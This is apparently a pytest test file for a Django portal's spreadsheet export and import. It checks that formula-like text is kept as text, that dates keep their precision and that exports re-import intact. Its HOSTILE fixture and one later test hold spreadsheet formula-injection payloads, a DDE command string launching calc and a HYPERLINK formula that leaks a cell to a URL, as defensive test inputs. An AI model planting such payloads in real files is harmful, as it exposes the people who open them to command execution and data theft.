"""Exports that are safe to open and faithful to re-import: formula-like text stays text,
dates are real Excel dates, and year-only or month-only dates keep their precision."""

import datetime
import io
import shutil
import subprocess
import zipfile

import pytest

from asoen_portal.exchange.exporting import export_register
from asoen_portal.exchange.importing import import_sheet
from asoen_portal.exchange.reading import read_upload
from tests.factories import ActivityFactory, UserFactory
from working_groups.models import Activity

HOSTILE = {
    "title": '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "description": "+cmd|' /C calc'!A0",
    "outcome": "-2+3",
    "participants": "@SUM(1+1)",
}

COLUMNS = {
    "title": "Tiêu đề",
    "description": "Nội dung",
    "outcome": "Kết quả",
    "participants": "Phối hợp với / thành phần",
}


@pytest.fixture
def importer(db):
    return UserFactory(username="nhap-lieu")


@pytest.fixture
def activities(groups):
    hostile = ActivityFactory(working_group=groups["AWGNCB"], **HOSTILE)
    dated = ActivityFactory(
        working_group=groups["AWGCC"], title="Góp ý ACCC", start_date=datetime.date(2025, 9, 12)
    )
    year_only = ActivityFactory(
        working_group=groups["AWGCC"],
        title="Kết nối các Vườn di sản ASEAN",
        start_date=datetime.date(2026, 1, 1),
        date_precision="year",
    )
    month_only = ActivityFactory(
        working_group=groups["AWGNCB"],
        title="Tham vấn Kế hoạch đa dạng sinh học",
        start_date=datetime.date(2026, 6, 1),
        date_precision="month",
    )
    return {"hostile": hostile, "dated": dated, "year": year_only, "month": month_only}


def export(fmt):
    content, _type, _name = export_register(register="activities", fmt=fmt)
    return content


def reimport(content, name, user):
    sheet = read_upload(io.BytesIO(content), name)
    return import_sheet(register="activities", sheet=sheet, user=user, confirm=True)


def xlsx_cells(content):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    by_title = {row[header.index("Tiêu đề")].value: row for row in rows[1:]}
    return header, by_title


def test_xlsx_export_writes_formula_like_text_as_marked_text(activities):
    content = export("xlsx")
    header, rows = xlsx_cells(content)
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")

    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    row = rows[HOSTILE["title"]]
    for field, text in HOSTILE.items():
        cell = row[header.index(COLUMNS[field])]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_csv_export_marks_formula_like_text_with_an_apostrophe(activities):
    text = export("csv").decode("utf-8-sig")

    assert '"\'=HYPERLINK(""http://example.invalid/?""&A1,""Bấm vào đây"")"' in text
    assert ",'+cmd|' /C calc'!A0," in text
    assert ",'-2+3," in text
    assert ",'@SUM(1+1)," in text


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_reimports_to_the_same_values(activities, importer, fmt):
    summary = reimport(export(fmt), f"hoat-dong.{fmt}", importer)

    assert summary["errors"] == []
    assert summary["counts"] == {"new": 0, "update": 0, "unchanged": 4, "error": 0}
    hostile = Activity.objects.get(pk=activities["hostile"].pk)
    assert hostile.title == HOSTILE["title"]
    assert hostile.outcome == "-2+3"


def test_xlsx_dates_are_excel_dates_shown_dd_mm_yyyy(activities):
    header, rows = xlsx_cells(export("xlsx"))
    start = header.index("Từ ngày")
    precision = header.index("Độ chính xác của ngày")

    dated = rows["Góp ý ACCC"]
    assert dated[start].value == datetime.datetime(2025, 9, 12)
    assert dated[start].number_format == "dd/mm/yyyy"
    assert dated[start].is_date
    year_only = rows["Kết nối các Vườn di sản ASEAN"]
    assert (year_only[start].value, year_only[start].number_format) == (
        datetime.datetime(2026, 1, 1),
        "yyyy",
    )
    assert year_only[precision].value == "Năm"
    month_only = rows["Tham vấn Kế hoạch đa dạng sinh học"]
    assert month_only[start].number_format == "mm/yyyy"
    assert month_only[precision].value == "Tháng"


def test_csv_dates_keep_their_precision_as_text(activities):
    lines = export("csv").decode("utf-8-sig").splitlines()

    assert any("Kết nối các Vườn di sản ASEAN,,2026,,Năm," in line for line in lines)
    assert any("Tham vấn Kế hoạch đa dạng sinh học,,06/2026,,Tháng," in line for line in lines)
    assert any("Góp ý ACCC,,12/09/2025,,Ngày," in line for line in lines)


def test_precision_survives_export_edit_import(activities, importer):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(export("xlsx")))
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    title, outcome = header.index("Tiêu đề") + 1, header.index("Kết quả") + 1
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row, title).value == "Kết nối các Vườn di sản ASEAN":
            sheet.cell(row, outcome).value = "Đã ký kết biên bản"
    buffer = io.BytesIO()
    workbook.save(buffer)

    summary = reimport(buffer.getvalue(), "sua.xlsx", importer)

    assert summary["counts"] == {"new": 0, "update": 1, "unchanged": 3, "error": 0}
    edited = Activity.objects.get(pk=activities["year"].pk)
    assert (edited.start_date, edited.date_precision, edited.outcome) == (
        datetime.date(2026, 1, 1),
        "year",
        "Đã ký kết biên bản",
    )
    assert Activity.objects.get(pk=activities["month"].pk).date_precision == "month"


def test_typed_month_or_year_sets_the_precision(groups, importer):
    from tests.exchange.conftest import xlsx_bytes

    rows = [
        ["Nhóm công tác", "Loại hoạt động", "Tiêu đề", "Từ ngày"],
        ["AWGNCB", "Khác", "Hội thảo tháng 7", "07/2026"],
        ["AWGNCB", "Khác", "Kế hoạch năm", 2026],
        ["AWGNCB", "Khác", "Họp ngày", "15/03/2026"],
    ]

    summary = reimport(xlsx_bytes(rows), "a.xlsx", importer)

    assert summary["counts"]["new"] == 3
    got = {a.title: (a.start_date, a.date_precision) for a in Activity.objects.all()}
    assert got == {
        "Hội thảo tháng 7": (datetime.date(2026, 7, 1), "month"),
        "Kế hoạch năm": (datetime.date(2026, 1, 1), "year"),
        "Họp ngày": (datetime.date(2026, 3, 15), "day"),
    }


def _soffice():
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if path is None:
        pytest.skip("needs LibreOffice (libreoffice-calc-nogui, installed by make test)")
    return path


def _convert(content, name, to, tmp_path, infilter=()):
    source = tmp_path / name
    source.write_bytes(content)
    subprocess.run(
        [_soffice(), "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"]
        + list(infilter)
        + ["--convert-to", to, "--outdir", str(tmp_path / "out"), str(source)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return next((tmp_path / "out").iterdir()).read_bytes()


def test_libreoffice_reads_xlsx_dates_as_dates_and_formulas_as_text(activities, tmp_path):
    text = _convert(
        export("xlsx"), "hoat-dong.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path
    )
    lines = text.decode("utf-8").splitlines()

    # Formatted as the number formats say, i.e. LibreOffice holds real dates.
    assert any("Góp ý ACCC,,12/09/2025,,Ngày," in line for line in lines)
    assert any("Kết nối các Vườn di sản ASEAN,,2026,,Năm," in line for line in lines)
    # A live formula would have been computed (to "Bấm vào đây", 1, 2): the text is kept.
    assert any('=HYPERLINK(""http://example.invalid/?""&A1' in line for line in lines)
    assert any(",-2+3," in line for line in lines)


def test_libreoffice_opens_the_csv_export_without_formulas(activities, tmp_path):
    from openpyxl import load_workbook

    # As a user opens it: comma-separated, UTF-8 (the BOM says so to Excel).
    converted = _convert(
        export("csv"), "hoat-dong.csv", "xlsx", tmp_path, infilter=["--infilter=CSV:44,34,76"]
    )
    sheet = load_workbook(io.BytesIO(converted)).worksheets[0]

    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    hyperlink = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert [(c.value, c.data_type) for c in hyperlink] == [("'" + HOSTILE["title"], "s")]


def test_formula_like_text_after_spaces_is_marked_too():
    from openpyxl import Workbook

    from asoen_portal.exchange.exporting import _xlsx_cell, write_csv

    sheet = Workbook(write_only=True).create_sheet()
    cell = _xlsx_cell(sheet, " =1+1+cmd|' /C calc'!A0")

    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert write_csv(["A"], [["\t=1+1"], [" -1"], ["Hà Nội"]]).decode("utf-8-sig") == (
        "A\r\n'\t=1+1\r\n' -1\r\nHà Nội\r\n"
    )


def test_every_register_filterset_imports():
    from asoen_portal.exchange.registry import REGISTERS

    named = {slug: r.filterset_class() for slug, r in REGISTERS.items() if r.filterset}
    assert sorted(named) == ["activities", "meetings", "tasks"]
    assert all(named.values())


def test_misconfigured_filterset_raises_instead_of_exporting_everything(activities):
    from dataclasses import replace

    from django.core.exceptions import ImproperlyConfigured

    from asoen_portal.exchange.registry import get_register

    broken = replace(get_register("activities"), filterset="working_groups.filters.Nothing")

    with pytest.raises(ImproperlyConfigured):
        export_register(register=broken, params={"q": "ACCC"}, fmt="csv")


def test_export_holds_only_the_filtered_rows(activities):
    content, _type, _name = export_register(
        register="activities", params={"year": "2026"}, fmt="csv"
    )
    titles = [line.split(",")[4] for line in content.decode("utf-8-sig").splitlines()[1:]]

    assert sorted(titles) == ["Kết nối các Vườn di sản ASEAN", "Tham vấn Kế hoạch đa dạng sinh học"]
